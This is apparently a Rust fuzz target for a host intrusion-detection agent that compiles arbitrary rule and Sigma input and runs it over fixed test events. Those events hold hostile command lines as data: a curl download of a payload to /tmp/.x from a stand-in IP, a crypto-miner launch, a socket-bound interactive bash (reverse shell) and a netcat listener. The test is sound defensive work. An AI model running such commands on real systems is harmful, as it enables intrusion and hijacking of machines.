//! Rule loading: the input is compiled as one Kestrel rule file (beside
//! the built-in lists and macros and the agent's list, as an operator's
//! file is loaded)
//! and as one Sigma file, and each rule set that compiles runs on a few
//! fixed events (a connect, a file creation, two execs, an accept,
//! repeated so that sequences and thresholds move). Rule files are root's or the server's,
//! but Sigma rules come from community repositories: an error is fine, a
//! panic would stop the agent's detection thread.
#![no_main]

use std::sync::{Arc, LazyLock};

use kestrel_detect::{compile, parse, Engine, EngineConfig, Origin, RuleSet, RuleSource};
use kestrel_event::Event;

/// A larger input is not the point (a huge regex is merely slow to
/// compile, within the regex crate's size limit).
const MAX_INPUT: usize = 64 * 1024;

/// What an operator's file is loaded beside: the built-in lists and
/// macros (00-lists.yaml), which it and the built-in rules refer to, and
/// the list the agent adds at start (its own pid).
static BASE: LazyLock<Vec<RuleSource>> = LazyLock::new(|| {
    let lists = kestrel_detect::builtin_sources()
        .into_iter()
        .find(|s| s.name.ends_with("00-lists.yaml"))
        .expect("builtin 00-lists.yaml");
    let agent = RuleSource {
        origin: Origin::Builtin,
        name: "agent".into(),
        text: "lists:\n  kestrel_agent_pids: ['4000']\n".into(),
    };
    vec![lists, agent]
});

/// The list and macro names defined there.
static BASE_NAMES: LazyLock<Vec<String>> = LazyLock::new(|| {
    let mut names = Vec::new();
    for src in BASE.iter() {
        let f = parse(src).expect("builtin lists parse");
        names.extend(f.lists.keys().chain(f.macros.keys()).cloned());
    }
    names
});

fn ev(pairs: &[(&'static str, &str)], t: u64, n: u64) -> Event {
    let mut e = Event::with_capacity(pairs.len() + 2);
    for (k, v) in pairs {
        e.push(k, *v);
    }
    e.push("time", t.to_string());
    e.push("event_id", format!("e{n}"));
    e
}

/// A connect (42), the file it downloads (602), its exec and a shell
/// under it (59), an accept (43): what the built-in rules' sequences
/// look for, with the fields they and Sigma's mapping read.
fn events() -> Vec<Vec<(&'static str, &'static str)>> {
    let process = [
        ("pid", "4242"),
        ("ppid", "4200"),
        ("tgid", "4242"),
        ("sid", "4200"),
        ("uid", "1000"),
        ("euid", "0"),
        ("user", "alice"),
        ("comm", "curl"),
        ("exe", "/usr/bin/curl"),
        ("parent_exe", "/usr/bin/bash"),
        ("ppid_argv", "bash -i"),
        ("run_path", "/tmp"),
        ("pid_tree", "1(systemd)->4200(bash)->4242(curl)"),
        ("tty_name", "pts0"),
        ("sessionid", "3"),
        ("hostname", "host-1"),
        ("container_id", ""),
    ];
    let with = |extra: &[(&'static str, &'static str)]| {
        let mut v: Vec<_> = process
            .iter()
            .filter(|(k, _)| !extra.iter().any(|(e, _)| e == k))
            .copied()
            .collect();
        v.extend_from_slice(extra);
        v
    };
    vec![
        with(&[
            ("data_type", "42"),
            ("res", "-115"),
            ("connect_type", "connect"),
            ("sa_family", "2"),
            ("dip", "203.0.113.7"),
            ("dport", "4444"),
            ("dip_hostname", "eu.pool.example"),
            ("sip", "10.0.0.5"),
            ("sport", "51234"),
            ("argv", "curl -s http://203.0.113.7:4444/x -o /tmp/.x"),
        ]),
        with(&[
            ("data_type", "602"),
            ("res", "0"),
            ("file_path", "/tmp/.x"),
            ("argv", "curl -s http://203.0.113.7:4444/x -o /tmp/.x"),
        ]),
        with(&[
            ("data_type", "59"),
            ("res", "0"),
            ("exe", "/tmp/.x"),
            ("filename", "/tmp/.x"),
            ("comm", ".x"),
            ("argv", "/tmp/.x --pool stratum+tcp://eu.pool.example:3333"),
            ("exe_md5", "d41d8cd98f00b204e9800998ecf8427e"),
            ("exe_deleted", "true"),
        ]),
        with(&[
            ("data_type", "59"),
            ("res", "0"),
            ("pid", "4243"),
            ("tgid", "4243"),
            ("ppid", "4242"),
            ("exe", "/usr/bin/bash"),
            ("comm", "bash"),
            ("parent_exe", "/usr/bin/curl"),
            ("argv", "bash -i"),
            ("stdin", "socket:[31337]"),
            ("stdout", "socket:[31337]"),
            ("socket_process_exe", "/usr/bin/curl"),
        ]),
        with(&[
            ("data_type", "43"),
            ("res", "0"),
            ("dip", "10.0.0.5"),
            ("dport", "45000"),
            ("sip", "fd00::1"),
            ("sport", "40000"),
            ("argv", "nc -l 45000"),
        ]),
    ]
}

static EVENTS: LazyLock<Vec<Vec<(&'static str, &'static str)>>> = LazyLock::new(events);

fn run(set: RuleSet) {
    let cfg = EngineConfig {
        suppress_ms: 0,
        max_state_entries: 64,
        ..Default::default()
    };
    let again = set.clone();
    let mut engine = Engine::new(set, cfg, Arc::default());
    let mut out = Vec::new();
    let mut n = 0;
    // Three rounds a second apart: thresholds of three, sequences of the
    // kinds in either order, first-seen values seen again.
    for round in 0..3u64 {
        for (i, pairs) in EVENTS.iter().enumerate() {
            n += 1;
            engine.process(
                &ev(pairs, 1_700_000_000_000 + round * 1000 + i as u64, n),
                &mut out,
            );
        }
    }
    // A reload of the same rules keeps their state.
    engine.reload(again);
    for (i, pairs) in EVENTS.iter().enumerate().rev() {
        n += 1;
        engine.process(&ev(pairs, 1_700_000_010_000 + i as u64, n), &mut out);
    }
    for a in &out {
        assert_eq!(a.get("data_type"), Some(kestrel_detect::DATA_TYPE_ALERT));
    }
}

libfuzzer_sys::fuzz_target!(|data: &[u8]| {
    if data.len() > MAX_INPUT {
        return;
    }
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    let custom = RuleSource {
        origin: Origin::Custom,
        name: "fuzz.yaml".into(),
        text: text.to_string(),
    };
    // Alone when it defines a name the base does too (that is an error of
    // its own, and it still gets compiled).
    if let Ok(file) = parse(&custom) {
        let clash = file
            .lists
            .keys()
            .chain(file.macros.keys())
            .any(|n| BASE_NAMES.contains(n));
        let mut sources = if clash { Vec::new() } else { BASE.clone() };
        sources.push(custom);
        if let Ok(set) = compile(&sources) {
            run(set);
        }
    }
    let sigma = RuleSource {
        origin: Origin::Sigma,
        name: "fuzz.yml".into(),
        text: text.to_string(),
    };
    if let Ok(set) = compile(&[sigma]) {
        run(set);
    }
});
